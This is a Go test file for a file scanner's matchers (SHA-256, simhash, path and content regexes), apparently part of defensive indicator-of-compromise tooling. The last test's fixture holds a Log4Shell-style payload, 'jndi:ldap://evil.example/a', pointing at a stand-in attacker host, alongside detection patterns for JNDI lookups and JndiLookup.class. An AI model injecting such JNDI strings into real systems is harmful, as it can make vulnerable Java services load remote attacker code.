package scan

import (
	"testing"

	"github.com/rusty-ferris-club/recon/internal/config"
	"github.com/rusty-ferris-club/recon/internal/index"
	"github.com/rusty-ferris-club/recon/internal/testutil"
)

func TestMatcherTriState(t *testing.T) {
	tree := testutil.NewTestTree(t).
		WithFile("a.txt", "hi\n").
		Build()

	// Disabled matcher: field stays null.
	p := mustPlan(t, &config.ComputedFields{SHA256: true})
	row := fileRow(tree.Abs("a.txt"))
	if err := p.Enrich(row); err != nil {
		t.Fatalf("Enrich failed: %v", err)
	}
	if row.SHA256Match != nil {
		t.Errorf("disabled matcher should leave null, got %v", *row.SHA256Match)
	}

	// Enabled, nothing matches: empty array.
	p = mustPlan(t, &config.ComputedFields{SHA256Match: []string{"deadbeef"}})
	row = fileRow(tree.Abs("a.txt"))
	if err := p.Enrich(row); err != nil {
		t.Fatalf("Enrich failed: %v", err)
	}
	if row.SHA256Match == nil || *row.SHA256Match != "[]" {
		t.Errorf("expected [], got %v", row.SHA256Match)
	}

	// Enabled, token matches: array of the matched input tokens.
	p = mustPlan(t, &config.ComputedFields{SHA256Match: []string{"deadbeef", hiSHA256}})
	row = fileRow(tree.Abs("a.txt"))
	if err := p.Enrich(row); err != nil {
		t.Fatalf("Enrich failed: %v", err)
	}
	want := `["` + hiSHA256 + `"]`
	if row.SHA256Match == nil || *row.SHA256Match != want {
		t.Errorf("expected %s, got %v", want, row.SHA256Match)
	}
}

func TestDigestMatchIsCaseInsensitive(t *testing.T) {
	tree := testutil.NewTestTree(t).
		WithFile("a.txt", "hi\n").
		Build()

	upper := "98EA6E4F216F2FB4B69FFF9B3A44842C38686CA685F3F55DC48C5D3FB1107BE4"
	p := mustPlan(t, &config.ComputedFields{SHA256Match: []string{upper}})
	row := fileRow(tree.Abs("a.txt"))
	if err := p.Enrich(row); err != nil {
		t.Fatalf("Enrich failed: %v", err)
	}
	want := `["` + upper + `"]`
	if row.SHA256Match == nil || *row.SHA256Match != want {
		t.Errorf("uppercase token should match, got %v", row.SHA256Match)
	}
}

func TestSimhashMatchThreshold(t *testing.T) {
	hash := "ff00ff00ff00ff00"
	row := &index.FileRow{Simhash: &hash}

	// Distance 2: flip two low bits.
	near := "ff00ff00ff00ff03"
	// Distance 8: flip a whole byte.
	far := "ff00ff00ff00ffff"

	if got := simhashMatch(row.Simhash, []string{hash, near, far}); got == nil ||
		*got != `["`+hash+`","`+near+`"]` {
		t.Errorf("expected exact and near tokens to match, got %v", got)
	}

	if got := simhashMatch(row.Simhash, []string{"not-hex"}); got == nil || *got != "[]" {
		t.Errorf("unparseable tokens match nothing, got %v", got)
	}

	if got := simhashMatch(nil, []string{hash}); got == nil || *got != "[]" {
		t.Errorf("a null simhash matches nothing, got %v", got)
	}
}

func TestSimhashProcessorAndMatch(t *testing.T) {
	tree := testutil.NewTestTree(t).
		WithFile("a.txt", "the quick brown fox jumps over the lazy dog\n").
		Build()

	p := mustPlan(t, &config.ComputedFields{Simhash: true})
	row := fileRow(tree.Abs("a.txt"))
	if err := p.Enrich(row); err != nil {
		t.Fatalf("Enrich failed: %v", err)
	}
	if row.Simhash == nil || *row.Simhash == "" {
		t.Fatal("expected a simhash value")
	}

	// The emitted hash matches itself at distance 0.
	p = mustPlan(t, &config.ComputedFields{SimhashMatch: []string{*row.Simhash}})
	again := fileRow(tree.Abs("a.txt"))
	if err := p.Enrich(again); err != nil {
		t.Fatalf("Enrich failed: %v", err)
	}
	want := `["` + *row.Simhash + `"]`
	if again.SimhashMatch == nil || *again.SimhashMatch != want {
		t.Errorf("expected self-match, got %v", again.SimhashMatch)
	}
}

func TestPathMatchTargetsAbsPath(t *testing.T) {
	tree := testutil.NewTestTree(t).
		WithFile("lib/JndiLookup.class", "x").
		WithFile("lib/Other.class", "y").
		Build()

	p := mustPlan(t, &config.ComputedFields{PathMatch: []string{`JndiLookup\.class$`}})

	hit := fileRow(tree.Abs("lib/JndiLookup.class"))
	if err := p.Enrich(hit); err != nil {
		t.Fatalf("Enrich failed: %v", err)
	}
	if hit.PathMatch == nil || *hit.PathMatch != `["JndiLookup\\.class$"]` {
		t.Errorf("expected the pattern as matched token, got %v", hit.PathMatch)
	}

	miss := fileRow(tree.Abs("lib/Other.class"))
	if err := p.Enrich(miss); err != nil {
		t.Fatalf("Enrich failed: %v", err)
	}
	if miss.PathMatch == nil || *miss.PathMatch != "[]" {
		t.Errorf("expected [], got %v", miss.PathMatch)
	}
}

func TestContentMatchStreamsContent(t *testing.T) {
	tree := testutil.NewTestTree(t).
		WithFile("app.log", "jndi:ldap://evil.example/a\n").
		WithFile("clean.log", "nothing to see\n").
		Build()

	p := mustPlan(t, &config.ComputedFields{ContentMatch: []string{`jndi:(ldap|rmi)`}})

	hit := fileRow(tree.Abs("app.log"))
	if err := p.Enrich(hit); err != nil {
		t.Fatalf("Enrich failed: %v", err)
	}
	if hit.ContentMatch == nil || *hit.ContentMatch != `["jndi:(ldap|rmi)"]` {
		t.Errorf("unexpected content_match: %v", hit.ContentMatch)
	}

	miss := fileRow(tree.Abs("clean.log"))
	if err := p.Enrich(miss); err != nil {
		t.Fatalf("Enrich failed: %v", err)
	}
	if miss.ContentMatch == nil || *miss.ContentMatch != "[]" {
		t.Errorf("expected [], got %v", miss.ContentMatch)
	}
}
